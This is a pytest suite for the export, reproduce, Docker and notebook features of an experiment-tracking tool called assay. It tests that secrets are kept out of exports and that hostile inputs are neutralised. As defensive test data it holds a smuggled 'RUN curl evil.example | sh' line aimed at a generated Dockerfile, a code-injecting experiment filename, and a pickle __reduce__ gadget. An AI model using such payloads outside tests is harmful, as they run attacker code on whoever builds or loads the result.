"""Taking runs elsewhere: --store-full, assay reproduce, Docker and notebook exports."""

from __future__ import annotations

import fnmatch
import json
import os
import pickle
import re
import shutil
import subprocess
import sys
from importlib import metadata
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import assay
from assay import run_experiment
from assay.config import ProjectConfig
from assay.errors import AssayError
from assay.export.differences import describe_difference
from assay.export.docker import DockerContext, build_image, export_docker_context
from assay.store import RunStore
from conftest import copy_project, run_cli
from git_helpers import GITIGNORE, git, init_repo
from notebook_helpers import execute_notebook


@pytest.fixture(autouse=True)
def _no_outer_repository(tmp_path, monkeypatch):
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))


def ok(result):
    assert result.code == 0, result
    return result


def exported(project: Path) -> Path:
    (folder,) = [p for p in (project / "data" / "runs").iterdir() if not p.name.startswith(".")]
    return folder


# -- --store-full --------------------------------------------------------------------------


def test_store_full_writes_a_self_contained_folder(tmp_project: Path) -> None:
    init_repo(tmp_project, GITIGNORE)
    (tmp_project / "keys").mkdir()
    (tmp_project / "keys" / "id_rsa").write_text("PRIVATE KEY")
    git(tmp_project, "add", "keys/id_rsa")  # tracked, and still never exported
    git(tmp_project, "commit", "-q", "-m", "a key, by mistake")
    (tmp_project / ".env").write_text("TOKEN=secret\n")  # ignored by git
    (tmp_project / ".env.local").write_text("TOKEN=secret\n")  # not ignored, looks secret
    (tmp_project / "notes").mkdir()
    (tmp_project / "notes" / "plan.md").write_text("untracked, not ignored\n")
    (tmp_project / "data").mkdir()
    (tmp_project / "data" / "raw.csv").write_text("a,b\n")  # ignored by git

    ok(run_cli("run", "diamond", "-p", "two", "--set", "offset=1", "--store-full",
               cwd=tmp_project))  # fmt: skip
    folder = exported(tmp_project)
    record = json.loads((folder / "run.json").read_text())
    run_id = record["run"]["id"]
    assert folder.name == run_id
    assert (folder / "run.log").read_text() == (tmp_project / "logs" / f"{run_id}.log").read_text()
    if (tmp_project / "reports" / run_id).is_dir():
        assert (folder / "report").is_dir() and record["export"]["files"]["report"] == "report"
    assert "assay reproduce" in (folder / "README.md").read_text()

    code = {p.relative_to(folder / "code").as_posix() for p in (folder / "code").rglob("*")
            if p.is_file()}  # fmt: skip
    assert {"experiments/diamond.py", "params/two.py", "tracking.py", ".gitignore",
            "notes/plan.md"} <= code  # fmt: skip
    for secret in (".env", ".env.local", "keys/id_rsa", "data/raw.csv", "calls.txt", "assay.db"):
        assert secret not in code, secret
    assert not any(p.startswith(("data/", "logs/", "reports/")) for p in code)
    left_out = {item["path"]: item["reason"] for item in record["export"]["code"]["left_out"]}
    assert left_out["keys/id_rsa"] == left_out[".env.local"] == "may hold secrets"
    assert left_out[".env"] == "ignored by git" and left_out["data/"] == "ignored by git"
    assert record["export"]["code"]["same_as_run"] is True  # same commit, no tracked change
    assert "(`code/` is that code)" in (folder / "README.md").read_text()

    text = (folder / "run.json").read_text()
    assert str(tmp_project) not in text and str(tmp_project.resolve()) not in text
    assert record["run"]["config"]["experiment_file"] == "experiments/diamond.py"
    assert record["provenance"]["git"]["root"] == "."

    assert record["export"]["artifacts"]["copied"] == len(record["artifacts"]) == 9
    for artifact in record["artifacts"]:
        assert (folder / artifact["path"]).is_file(), artifact["path"]
        value = assay.load(
            key=artifact["key"], cache_dir=folder / "cache", project_root=tmp_project
        )
        assert value is not None
    summary = assay.load("summary", experiment="diamond", cache_dir=folder / "cache",
                         project_root=tmp_project)  # fmt: skip
    assert summary == {"a": 12, "b": 33}

    lines = (folder / "requirements.txt").read_text().splitlines()
    pins = [line for line in lines if line and not line.startswith("#")]
    assert pins and all(re.fullmatch(r"[a-z0-9][a-z0-9._-]*==[^\s=]+", line) for line in pins)
    assert f"click=={metadata.version('click')}" in pins
    assert not any(line.startswith(("assay==", "pip==")) for line in pins)
    assert not (folder / "environment.yml").exists()


def test_the_export_readme_s_load_instruction_works_in_the_export(tmp_project: Path) -> None:
    """Its `assay.load(key=..., cache_dir="cache")` looked for the project's `cache/` when
    run in data/runs/RUN_ID/: a relative cache_dir counts from the project folder."""
    ok(run_cli("run", "diamond", "-p", "two", "--store-full", "-q", cwd=tmp_project))
    folder = exported(tmp_project)
    (call,) = re.findall(r"assay\.load\(.*\)", (folder / "README.md").read_text())
    record = json.loads((folder / "run.json").read_text())
    (key,) = [a["key"] for a in record["artifacts"] if a["key"].endswith(".summary")]
    code = f"import assay; print(repr({call.replace('<key from run.json>', key)}))"
    for cwd in (folder, shutil.copytree(folder, tmp_project.parent / "mailed")):
        proc = subprocess.run([sys.executable, "-c", code], cwd=cwd, capture_output=True,
                              text=True)  # fmt: skip
        assert proc.stdout.strip() == "{'a': 11, 'b': 32}", proc.stderr


def test_every_link_of_an_exported_report_leads_inside_the_export(tmp_path: Path) -> None:
    """The folder is meant to be copied anywhere: its report links its own log and cache."""
    from urllib.parse import unquote

    project = copy_project("basic", tmp_path / "project")
    run_experiment("diamond", project_root=project, store_full=True)
    moved = tmp_path / "elsewhere"
    shutil.copytree(exported(project), moved)
    shutil.rmtree(project)  # nothing left to lean on

    page = moved / "report" / "index.html"
    hrefs = re.findall(r'(?:href|src)="([^"#]+)"', page.read_text())
    assert any("cache/objects/" in h for h in hrefs) and "../run.log" in hrefs
    for href in hrefs:
        assert (page.parent / unquote(href)).exists(), href


def test_changes_to_secret_files_are_left_out_of_the_diff_whatever_their_names(
    tmp_project: Path,
) -> None:
    """A path with a space, or one git quotes (non-ASCII), slipped past the filter."""
    init_repo(tmp_project, GITIGNORE)
    secrets = ["deploy keys/prod.pem", "naïve/.env", "plain.key"]
    for path in secrets:
        (tmp_project / path).parent.mkdir(exist_ok=True)
        (tmp_project / path).write_text("old\n")
    git(tmp_project, "add", "--force", *secrets)
    git(tmp_project, "commit", "-q", "-m", "secrets, by mistake")
    for path in secrets:
        (tmp_project / path).write_text(f"LEAKED-{path}\n")
    tracking = tmp_project / "tracking.py"
    tracking.write_text(tracking.read_text() + "# a visible change\n")

    ok(run_cli("run", "diamond", "-p", "two", "--store-full", cwd=tmp_project))

    record = json.loads((exported(tmp_project) / "run.json").read_text())
    diff = record["provenance"]["git"]["diff"]
    assert "LEAKED" not in diff, diff
    assert "a visible change" in diff and "files that may hold secrets were left out" in diff


def test_a_virtualenv_of_any_name_is_left_out_of_the_code_snapshot(tmp_project: Path) -> None:
    init_repo(tmp_project, GITIGNORE)
    (tmp_project / "myenv" / "lib").mkdir(parents=True)
    (tmp_project / "myenv" / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (tmp_project / "myenv" / "lib" / "site.py").write_text("# a package's file\n")

    ok(run_cli("run", "diamond", "-p", "two", "--store-full", cwd=tmp_project))

    code = exported(tmp_project) / "code"
    assert (code / "experiments" / "diamond.py").is_file()
    assert not (code / "myenv").exists()


def test_an_untracked_module_means_the_export_cannot_say_it_is_the_run_s_code(
    tmp_project: Path,
) -> None:
    """same_as_run compared the commit and the diff only: an untracked module the run
    imported, edited before `assay export`, was called the same code."""
    init_repo(tmp_project, GITIGNORE)
    (tmp_project / "consts.py").write_text("K = 1\n")
    ok(run_cli("run", "diamond", "-p", "two", cwd=tmp_project))
    (tmp_project / "consts.py").write_text("K = 2\n")

    ok(run_cli("export", "full", "latest", cwd=tmp_project))

    record = json.loads((exported(tmp_project) / "run.json").read_text())
    assert record["export"]["code"]["same_as_run"] is False


def test_a_later_export_keeps_the_code_snapshot_the_run_made(tmp_project: Path) -> None:
    """`assay export full RUN` of a --store-full run replaced its code snapshot with the
    code as edited since, and said nothing: the run's exact code was lost."""
    init_repo(tmp_project, GITIGNORE)
    ok(run_cli("run", "diamond", "-p", "two", "--store-full", "-q", cwd=tmp_project))
    folder = exported(tmp_project)
    as_run = (tmp_project / "experiments" / "diamond.py").read_text()
    section = json.loads((folder / "run.json").read_text())["export"]["code"]
    (tmp_project / "experiments" / "diamond.py").write_text(as_run + "# edited since\n")

    ok(run_cli("export", "full", "1", cwd=tmp_project))
    ok(run_cli("export", "full", "1", "-o", tmp_project.parent / "copy", cwd=tmp_project))
    for export in (folder, tmp_project.parent / "copy"):
        assert (export / "code" / "experiments" / "diamond.py").read_text() == as_run
        kept = json.loads((export / "run.json").read_text())["export"]["code"]
        assert kept == section and kept["same_as_run"] is True and kept["taken"]

    result = ok(run_cli("export", "full", "1", "--include", "*.txt", cwd=tmp_project))
    assert "kept the code snapshot" in result.text and "--include" in result.text
    assert (folder / "code" / "experiments" / "diamond.py").read_text() == as_run


def test_load_by_path_reads_the_file_named_not_the_same_key_in_the_project(
    tmp_project: Path,
) -> None:
    """assay.load(path=...) into an export returned the project cache's artifact with the
    same key (here recomputed since, with another value)."""
    (tmp_project / "experiments" / "draw.py").write_text(
        "import random\nfrom dataclasses import dataclass\nimport assay\n"
        "from assay.caching import JsonCacher\n\n"
        "@dataclass\nclass Params(assay.ExperimentParameters):\n    n: int = 3\n\n"
        "@assay.stage(outputs=['data'], cachers=[JsonCacher])\n"
        "def draw(record):\n    return [random.random() for _ in range(record.params.n)]\n\n"
        "def get_params():\n    return [Params(name='a')]\n\n"
        "def run(param_sets, manager):\n    for p in param_sets:\n"
        "        draw(assay.Record(manager, p))\n"
    )
    ok(run_cli("run", "draw", "--store-full", cwd=tmp_project))
    (file,) = (exported(tmp_project) / "cache" / "objects").rglob("data.json")
    exported_value = json.loads(file.read_text())
    ok(run_cli("run", "draw", "--overwrite-stage", "draw", cwd=tmp_project))
    assert assay.load("data", param_set="a", project_root=tmp_project) != exported_value

    assert assay.load(path=file, project_root=tmp_project) == exported_value
    assert assay.load("data", path=file.parent, project_root=tmp_project) == exported_value


def test_secrets_and_ignored_files_are_exported_only_when_asked(tmp_project: Path) -> None:
    init_repo(tmp_project, GITIGNORE)
    (tmp_project / ".env").write_text("TOKEN=secret\n")
    (tmp_project / "data").mkdir()
    (tmp_project / "data" / "raw.csv").write_text("a,b\n")
    ok(run_cli("run", "diamond", "-p", "two", "--store-full", "--store-full-include", ".env",
               "--store-full-include", "data/*.csv", cwd=tmp_project))  # fmt: skip
    code = exported(tmp_project) / "code"
    assert (code / ".env").read_text() == "TOKEN=secret\n"
    assert (code / "data" / "raw.csv").exists()


def test_store_full_outside_git_snapshots_the_source_files(tmp_project: Path) -> None:
    (tmp_project / ".env").write_text("TOKEN=secret\n")
    (tmp_project / "data").mkdir()
    (tmp_project / "data" / "helper.py").write_text("# in data/: left out\n")
    (tmp_project / "README.md").write_text("# study\n")
    run_experiment("diamond", ["two"], project_root=tmp_project, command="t", store_full=True)
    folder = exported(tmp_project)
    record = json.loads((folder / "run.json").read_text())
    assert record["export"]["code"]["source"] == "folder"
    assert "not in a git repository" in record["provenance"]["git"]["error"]
    code = {p.relative_to(folder / "code").as_posix() for p in (folder / "code").rglob("*")
            if p.is_file()}  # fmt: skip
    assert {"README.md", "tracking.py", "experiments/diamond.py", "params/two.py"} <= code
    assert not any(p.startswith(("data/", "logs/", "reports/", ".")) for p in code)
    assert "assay.db" not in code and all(p.endswith((".py", ".md", ".txt")) for p in code)


def test_store_full_under_conda_writes_environment_yml(tmp_project: Path, monkeypatch) -> None:
    prefix = tmp_project.parent / "envs" / "study"
    (prefix / "conda-meta").mkdir(parents=True)
    (prefix / "conda-meta" / "numpy-1.26.4-py311h64a7726_0.json").write_text("{}")
    monkeypatch.setenv("CONDA_PREFIX", str(prefix))
    monkeypatch.setenv("CONDA_DEFAULT_ENV", "study")
    monkeypatch.delenv("CONDA_EXE", raising=False)
    run_experiment("diamond", ["two"], project_root=tmp_project, command="t", store_full=True)
    environment = (exported(tmp_project) / "environment.yml").read_text()
    assert environment.startswith("name: study\ndependencies:\n  - numpy=1.26.4\n")
    assert f"    - click=={metadata.version('click')}" in environment


# -- assay reproduce -------------------------------------------------------------------------


def test_reproduce_elsewhere_is_exact_then_finds_a_non_deterministic_stage(tmp_path: Path) -> None:
    project = copy_project("repro", tmp_path)
    init_repo(project, GITIGNORE)
    ok(run_cli("run", "tables", "-p", "small", "--store-full", cwd=project))
    elsewhere = tmp_path / "elsewhere" / "export"
    shutil.copytree(exported(project), elsewhere, symlinks=True)
    shutil.rmtree(project)  # the original cache, code and run store are gone

    result = run_cli("reproduce", elsewhere, cwd=tmp_path)
    assert result.code == 0, result
    assert result.text.count("identical") >= 7 and "the reproduction is exact" in result.text
    (workdir,) = (elsewhere / "reproductions").iterdir()
    with RunStore(workdir / "assay.db") as store:
        stages = store.stages(store.get_run("latest").id)
    assert {s.status for s in stages} == {"executed"}  # recomputed, not reloaded

    reused = run_cli(
        "reproduce", elsewhere, "--reuse", "--workdir", tmp_path / "reuse", cwd=tmp_path
    )
    assert reused.code == 0 and "7 identical" in reused.text
    with RunStore(tmp_path / "reuse" / "assay.db") as store:
        stages = store.stages(store.get_run("latest").id)
    assert {s.status for s in stages} == {"cached"}

    module = elsewhere / "code" / "experiments" / "tables.py"
    module.write_text(module.read_text().replace("NOISE = False", "NOISE = True"))
    result = run_cli("reproduce", elsewhere, cwd=tmp_path)
    assert result.code == 1, result
    text = result.text
    assert "not exact" in text and "7 different" in text
    assert re.search(r"table: \d of 9 cells differ \(in y\), max abs diff", text)
    assert re.search(r"array: 6 of 6 values differ \(max abs diff", text)
    assert "JSON: 2 values differ: y_sum" in text


def test_a_run_started_from_a_subfolder_with_a_relative_parameter_file_reproduces(
    tmp_path: Path,
) -> None:
    """`-p ../params/small.py` from experiments/ was recorded as typed: reproduce (and the
    export's notebook and Dockerfile) looked for it beside the export's root."""
    project = copy_project("repro", tmp_path)
    init_repo(project, GITIGNORE)
    ok(run_cli("run", "tables.py", "-p", "../params/small.py", "--store-full",
               cwd=project / "experiments"))  # fmt: skip
    record = json.loads((exported(project) / "run.json").read_text())
    assert record["run"]["config"]["param_files"] == ["params/small.py"]
    elsewhere = tmp_path / "elsewhere" / "export"
    shutil.copytree(exported(project), elsewhere, symlinks=True)

    result = run_cli("reproduce", elsewhere, cwd=tmp_path)

    assert result.code == 0 and "the reproduction is exact" in result.text, result


def test_an_artifact_the_export_could_not_copy_is_not_also_reported_as_new(
    tmp_path: Path,
) -> None:
    """A path_override artifact (outside the cache, not exported) was listed twice: "not
    exported", and among the artifacts "the original run did not have"."""
    project = copy_project("repro", tmp_path)
    (project / "experiments" / "outside.py").write_text(
        "from dataclasses import dataclass\nimport assay\n"
        "from assay.caching import JsonCacher\n\n"
        "@dataclass\nclass Params(assay.ExperimentParameters):\n    n: int = 3\n\n"
        "@assay.stage(outputs=['kept'], cachers=[JsonCacher(path_override='out/kept.json')])\n"
        "def keep(record):\n    return list(range(record.params.n))\n\n"
        "def get_params():\n    return [Params(name='a')]\n\n"
        "def run(param_sets, manager):\n    for p in param_sets:\n"
        "        keep(assay.Record(manager, p))\n"
    )
    init_repo(project, GITIGNORE)
    ok(run_cli("run", "outside", "--store-full", cwd=project))

    result = run_cli("reproduce", exported(project), cwd=tmp_path)

    assert "not exported" in result.text, result
    assert "the original run did not have" not in result.text, result


def test_files_a_stage_wrote_itself_load_from_the_export(tmp_path: Path) -> None:
    """A FileReferenceCacher entry kept the original project's paths: loaded from an
    export it gave files outside it (gone once the project is), and reproduce called it
    different every time (its JSON holds the paths, which differ between folders)."""
    project = copy_project("repro", tmp_path)
    (project / "experiments" / "written.py").write_text(
        "import json, os\nfrom dataclasses import dataclass\nimport assay\n"
        "from assay.caching import FileReferenceCacher\n\n"
        "@dataclass\nclass Params(assay.ExperimentParameters):\n    n: int = 2\n\n"
        "@assay.stage(outputs=['files'], cachers=[FileReferenceCacher])\n"
        "def write(record):\n    folder = record.get_dir('tables')\n    paths = []\n"
        "    for i in range(record.params.n):\n"
        "        paths.append(os.path.join(folder, f'{i}.json'))\n"
        "        with open(paths[-1], 'w') as f:\n            json.dump(i, f)\n"
        "    return paths\n\n"
        "def get_params():\n    return [Params(name='a')]\n\n"
        "def run(param_sets, manager):\n    for p in param_sets:\n"
        "        write(assay.Record(manager, p))\n"
    )
    init_repo(project, GITIGNORE)
    ok(run_cli("run", "written", "--store-full", cwd=project))
    elsewhere = tmp_path / "elsewhere" / "export"
    shutil.copytree(exported(project), elsewhere, symlinks=True)
    shutil.rmtree(project)

    (artifact,) = json.loads((elsewhere / "run.json").read_text())["artifacts"]
    paths = assay.load(key=artifact["key"], cache_dir=elsewhere / "cache", project_root=tmp_path)
    assert [json.loads(Path(p).read_text()) for p in paths] == [0, 1]
    assert all(Path(p).resolve().is_relative_to(elsewhere.resolve()) for p in paths), paths
    result = run_cli("reproduce", elsewhere, cwd=tmp_path)
    assert result.code == 0 and "the reproduction is exact" in result.text, result


def test_reproduce_reports_missing_artifacts_and_a_failed_rerun(tmp_path: Path) -> None:
    project = copy_project("repro", tmp_path)
    run_experiment("tables", ["small"], project_root=project, command="t", store_full=True)
    folder = exported(project)
    module = folder / "code" / "experiments" / "tables.py"
    module.write_text(
        module.read_text().replace("    leaderboard(assay.Record(manager, None))\n", "")
    )
    result = run_cli("reproduce", folder, cwd=tmp_path)
    assert result.code == 1 and "missing" in result.text and "6 identical, 1 missing" in result.text

    module.write_text(module.read_text().replace("def make_array(record):\n",
                                                 "def make_array(record):\n    1 / 0\n"))  # fmt: skip
    result = run_cli("reproduce", folder, cwd=tmp_path)
    assert result.code == 1 and "The re-run failed" in result.text


class _Marker:
    """Unpickling this writes a file: proof that a pickle was loaded."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return (Path.write_text, (Path(self.path), "unpickled!"))


def test_a_tampered_exported_artifact_is_never_unpickled(tmp_project: Path) -> None:
    run_experiment("diamond", ["two"], project_root=tmp_project, command="t", store_full=True)
    folder = exported(tmp_project)
    record = json.loads((folder / "run.json").read_text())
    data = next(a for a in record["artifacts"] if a["name"] == "data" and a["param_set"] == "a")
    marker = tmp_project.parent / "marker.txt"
    (folder / data["path"]).write_bytes(pickle.dumps(_Marker(str(marker))))
    result = run_cli("reproduce", folder, cwd=tmp_project.parent)
    assert result.code == 1
    assert "damaged" in result.text and "not loaded" in result.text
    assert re.search(r"bytes instead of \d+|does not match its recorded checksum", result.text)
    assert not marker.exists()


def test_reproduce_needs_an_exported_folder(tmp_path: Path) -> None:
    result = run_cli("reproduce", tmp_path, cwd=tmp_path)
    assert result.code == 1 and "not an exported assay run" in result.text


def test_differences_are_described_for_tables_arrays_and_json() -> None:
    old = pd.DataFrame({"x": [1.0, 2.0, 3.0], "y": ["a", "b", "c"]})
    new = old.assign(x=[1.0, 2.5, 3.0])
    assert describe_difference(old, new) == "table: 1 of 6 cells differ (in x), max abs diff 0.5"
    assert "columns added: z" in describe_difference(old, old.assign(z=1))
    assert "shape (3, 2) → (2, 2)" in describe_difference(old, old.head(2))
    assert describe_difference(np.zeros((2, 3)), np.ones((2, 3))) == (
        "array: 6 of 6 values differ (max abs diff 1)"
    )
    assert "shape (2, 3) → (3, 2)" in describe_difference(np.zeros((2, 3)), np.zeros((3, 2)))
    assert "dtype float64 → int64" in describe_difference(np.zeros(2), np.zeros(2, dtype=int))
    assert describe_difference({"a": 1, "b": {"c": 2}}, {"a": 1, "b": {"c": 3}, "d": 0}) == (
        "JSON: 2 values differ: b.c (2 → 3); d added"
    )
    assert (
        describe_difference([1, 2], [1, 2, 3])
        == "JSON: 1 value differs: list has 3 items instead of 2"
    )
    assert describe_difference({1, 2}, {1, 3}) == "set: contents differ"
    assert "equal values" in describe_difference(np.arange(3), np.arange(3))


class _Model:
    def __init__(self, weights, name):
        self.weights = weights
        self.name = name


def test_loaded_values_are_compared_all_the_way_down() -> None:
    from assay.export.differences import values_equal

    shared = np.arange(4.0)
    same_values = _Model([shared, shared], "m")  # pickled with one array, shared
    copies = _Model([np.arange(4.0), np.arange(4.0)], "m")  # pickled with two arrays
    assert pickle.dumps(same_values) != pickle.dumps(copies)
    assert values_equal(same_values, copies)
    assert describe_difference(same_values, copies) == (
        "_Model: equal attributes, but the saved bytes differ"
    )
    other = _Model([np.arange(4.0), np.ones(4)], "m")
    assert not values_equal(same_values, other)
    assert describe_difference(same_values, other) == "_Model: attributes differ: weights"
    assert values_equal({"a": [1, float("nan")]}, {"a": [1, float("nan")]})  # NaN stays NaN
    assert values_equal({"t": pd.DataFrame({"x": [1]})}, {"t": pd.DataFrame({"x": [1]})})


def test_equal_sets_are_equal_whatever_the_order_of_their_members() -> None:
    """A set's pickle lists its members in its own order, which depends on the order they
    were added in (and on string hashing, which changes with every process): compared by
    bytes, a reproduction holding a set was "different" one time and "equivalent" the next."""
    from assay.export.differences import values_equal

    added, reversed_ = {0, 8}, set([8, 0])  # the second member collides with the first
    assert pickle.dumps(added) != pickle.dumps(reversed_)
    assert values_equal(added, reversed_)
    assert values_equal(frozenset(added), frozenset(reversed_))
    assert values_equal(_Model(added, "m"), _Model(reversed_, "m"))
    assert values_equal({_Model(1, "m")}, {_Model(1, "m")})  # members equal by value only
    assert not values_equal({0, 8}, {0, 9})
    assert not values_equal({_Model(1, "m")}, {_Model(2, "m")})
    assert not values_equal({0, 8}, frozenset({0, 8}))


# -- assay export docker ---------------------------------------------------------------------

INSTRUCTIONS = {"FROM", "RUN", "CMD", "LABEL", "EXPOSE", "ENV", "ADD", "COPY", "ENTRYPOINT",
                "VOLUME", "USER", "WORKDIR", "ARG", "ONBUILD", "STOPSIGNAL", "HEALTHCHECK",
                "SHELL"}  # fmt: skip


def parse_dockerfile(text: str) -> list[tuple[str, str]]:
    """``(INSTRUCTION, arguments)`` per instruction; raises on anything Docker would refuse."""
    instructions, pending = [], ""
    for line in text.splitlines():
        if not pending and (not line.strip() or line.lstrip().startswith("#")):
            continue
        if line.endswith("\\"):
            pending += line[:-1] + " "
            continue
        words = (pending + line).split(None, 1)
        pending = ""
        assert words[0] in INSTRUCTIONS and words[0].isupper(), f"bad instruction {words[0]!r}"
        assert len(words) == 2, f"{words[0]} without arguments"
        instructions.append((words[0], words[1].strip()))
    assert not pending, "a continuation line ends the file"
    assert instructions and instructions[0][0] == "FROM"
    return instructions


def check_context(context: Path) -> list[tuple[str, str]]:
    """Parse the Dockerfile and check it against its build context."""
    instructions = parse_dockerfile((context / "Dockerfile").read_text())
    ignored = [line.strip() for line in (context / ".dockerignore").read_text().splitlines()
               if line.strip() and not line.startswith("#")]  # fmt: skip
    image = instructions[0][1]
    assert image == f"python:{sys.version_info.major}.{sys.version_info.minor}-slim"
    for instruction, arguments in instructions:
        if instruction == "COPY":
            *sources, _target = arguments.split()
            for source in sources:
                assert not source.startswith(("/", "..")), source
                assert (context / source).exists(), f"COPY {source}: not in the context"
                assert not any(fnmatch.fnmatch(source, p.rstrip("/")) for p in ignored), source
        if instruction == "CMD":
            assert json.loads(arguments)[:2] == ["assay", "run"]
        if instruction == "RUN" and " -r " in arguments:
            requirement_file = context / "run" / "requirements.txt"
            pins = [line for line in requirement_file.read_text().splitlines()
                    if line and not line.startswith("#")]  # fmt: skip
            assert pins and all("==" in pin for pin in pins)
    return instructions


def test_export_docker_writes_a_context_that_parses_and_is_pinned(tmp_project: Path) -> None:
    init_repo(tmp_project, GITIGNORE)
    ok(run_cli("run", "diamond", "-p", "two", "--names", "a", "--set", "offset=2", "-q",
               cwd=tmp_project))  # fmt: skip
    result = run_cli("export", "docker", "latest", cwd=tmp_project)
    assert result.code == 0, result
    with RunStore(tmp_project / "assay.db") as store:
        run_id = store.get_run("latest").id
    context = tmp_project / "data" / "runs" / run_id / "docker"
    assert f"docker build -t assay-{run_id.lower()} {context}" in result.text
    if shutil.which("docker") is None or "Not built" in result.text:
        assert "Not built" in result.text
    instructions = check_context(context)
    cmd = json.loads(dict(instructions)["CMD"])
    assert cmd == ["assay", "run", "diamond", "-p", "two", "--names", "a", "--set", "offset=2"]
    copies = [args for name, args in instructions if name == "COPY"]
    assert any(args.startswith("wheels/assay-") for args in copies)
    assert (context / "run" / "code" / "experiments" / "diamond.py").exists()
    assert (context / "run" / "cache" / "objects").is_dir()
    assert "docker run --rm -it" in (context / "README.md").read_text()

    target = tmp_project.parent / "site"
    (wheel,) = (context / "wheels").glob("*.whl")
    install = subprocess.run(
        [sys.executable, "-m", "pip", "install", "--no-deps", "--no-index", "--quiet",
         "--target", str(target), str(wheel)],
        capture_output=True, text=True,
    )  # fmt: skip
    assert install.returncode == 0, install.stderr
    check = subprocess.run(
        [sys.executable, "-c", "import sys; sys.path.insert(0, sys.argv[1]); import assay.cli, "
         "assay.export.docker; print(assay.__file__)", str(target)],
        capture_output=True, text=True, cwd=tmp_project.parent,
    )  # fmt: skip
    assert check.returncode == 0 and check.stdout.startswith(str(target)), check.stderr


def test_odd_experiment_names_give_safe_run_ids_notebooks_and_dockerfiles(
    tmp_project: Path,
) -> None:
    """A name with braces, quotes or line breaks went raw into run ids (folders), into an
    f-string of the exported notebook (code that ran when the notebook ran) and into the
    Dockerfile (a line break started an instruction of its own)."""
    from assay.export.docker import dockerfile
    from assay.run_record import read_run_record

    odd = tmp_project / "experiments" / "e{__import__('os').getpid()} \"q\".py"
    shutil.copy(tmp_project / "experiments" / "diamond.py", odd)
    assert run_cli("run", str(odd), "-p", "two", "-q", cwd=tmp_project).code == 0
    with RunStore(tmp_project / "assay.db") as store:
        run = store.get_run("latest")
    assert run.experiment == odd.stem
    assert re.fullmatch(r"[A-Za-z0-9_.+-]+-0001-\d{8}T\d{6}", run.id), run.id

    assert run_cli("export", "notebook", "latest", cwd=tmp_project).code == 0
    notebook = json.loads(next((tmp_project / "data" / "runs").rglob("*.ipynb")).read_text())
    for cell in notebook["cells"]:
        if cell["cell_type"] == "code":
            compile("".join(cell["source"]), "cell", "exec")
    assert "artifacts of {RUN_ID} came out" in "".join(notebook["cells"][-1]["source"])

    assert run_cli("export", "full", "latest", cwd=tmp_project).code == 0
    record = read_run_record(tmp_project / "data" / "runs" / run.id / "run.json")
    record["run"]["experiment"] = "x\nRUN curl evil.example | sh\n"
    record["run"]["id"] = 'an old "id"\nRUN curl evil.example | sh'
    text = dockerfile(record, "assay-0-py3-none-any.whl")
    instructions = parse_dockerfile(text)
    assert not any(name == "RUN" and "curl" in arguments for name, arguments in instructions)
    assert "an_old_id_RUN_curl_evil.example_sh" in dict(instructions)["ENV"]


def test_export_docker_builds_when_an_engine_answers(tmp_project: Path, monkeypatch) -> None:
    run_experiment("diamond", ["two"], project_root=tmp_project, command="t", store_full=True)
    bin_dir = tmp_project.parent / "bin"
    bin_dir.mkdir()
    calls = tmp_project.parent / "docker-calls.txt"
    fake = bin_dir / "docker"
    fake.write_text(f'#!/bin/sh\necho "$@" >> {calls}\nexit 0\n')
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}{os.pathsep}{os.environ['PATH']}")
    config = ProjectConfig.load(tmp_project)
    context = export_docker_context(config, "latest", destination=tmp_project.parent / "ctx")
    assert isinstance(context, DockerContext)
    check_context(context.folder)
    built, message = build_image(context)
    assert built and context.tag in message
    assert calls.read_text().splitlines() == ["info", f"build -t {context.tag} {context.folder}"]
    # Exported with --store-full: the context holds that export, code as it was then.
    assert (context.folder / "run" / "run.json").read_text() == (
        exported(tmp_project) / "run.json"
    ).read_text()
    with pytest.raises(AssayError, match="not a build context written by assay"):
        export_docker_context(config, "latest", destination=tmp_project / "experiments")


# -- assay export notebook -------------------------------------------------------------------


@pytest.mark.parametrize("cache", [None, "data/elsewhere"], ids=["project-cache", "--cache"])
def test_the_exported_notebook_runs_in_a_copy_of_the_project(
    tmp_path: Path, monkeypatch, cache: str | None
) -> None:
    """With ``--cache DIR`` inside the project, the copy's notebook loads from, and re-runs
    with, the copy's DIR (its re-run cell used the project's cache, its loads the
    original's folder); the original is gone by then."""
    nbformat = pytest.importorskip("nbformat")
    monkeypatch.setenv("JUPYTER_PLATFORM_DIRS", "1")
    project = copy_project("basic", tmp_path)
    given = ["--cache", cache] if cache else []
    ok(run_cli("run", "diamond", "-p", "two", "--set", "offset=1", "-q", *given, cwd=project))
    result = ok(run_cli("export", "notebook", "latest", cwd=project))
    with RunStore(project / "assay.db") as store:
        run_id = store.get_run("latest").id
    assert f"data/runs/{run_id}/{run_id}.ipynb" in result.text

    copy = tmp_path / "colleague" / "basic"
    shutil.copytree(project, copy, symlinks=True)
    shutil.rmtree(project)
    path = copy / "data" / "runs" / run_id / f"{run_id}.ipynb"
    notebook = nbformat.read(str(path), as_version=4)
    text = execute_notebook(notebook, path.parent)  # raises CellExecutionError if a cell fails
    for cell in notebook.cells:
        if cell.cell_type == "code":
            assert cell.execution_count is not None
            assert not [o for o in cell.outputs if o.output_type == "error"]
    assert f"project: {copy}" in text
    assert "{'sum': 12, 'n': 3}" in text and "{'a': 12, 'b': 33}" in text
    assert f"9 of 9 artifacts of {run_id} came out with the same key and checksum" in text
    with RunStore(copy / "assay.db") as store:
        again = store.get_run("latest")
        statuses = {s.status for s in store.stages(again.id)}
    assert again.number == 2 and again.status == "completed" and again.notes.startswith("re-run")
    used = copy / (cache or "data/cache")
    assert again.config["cache_dir"] == str(used)
    assert statuses == {"cached"}, statuses  # all reused from `used`


def test_run_flags_and_export_full_write_the_exports(tmp_project: Path) -> None:
    result = ok(run_cli("run", "diamond", "-p", "two", "--notebook", "--docker", cwd=tmp_project))
    folder = exported(tmp_project)  # --docker implies --store-full
    run_id = folder.name
    assert f"Notebook: data/runs/{run_id}/{run_id}.ipynb" in result.text
    assert f"Docker build context: data/runs/{run_id}/docker" in result.text
    assert (folder / f"{run_id}.ipynb").is_file() and (folder / "docker" / "Dockerfile").is_file()
    check_context(folder / "docker")

    ok(run_cli("run", "diamond", "-p", "two", "-q", cwd=tmp_project))  # run 2: no export
    target = tmp_project.parent / "run2"
    result = ok(run_cli("export", "full", "2", "-o", target, cwd=tmp_project))
    record = json.loads((target / "run.json").read_text())
    assert record["run"]["number"] == 2 and {a["action"] for a in record["artifacts"]} == {"reused"}
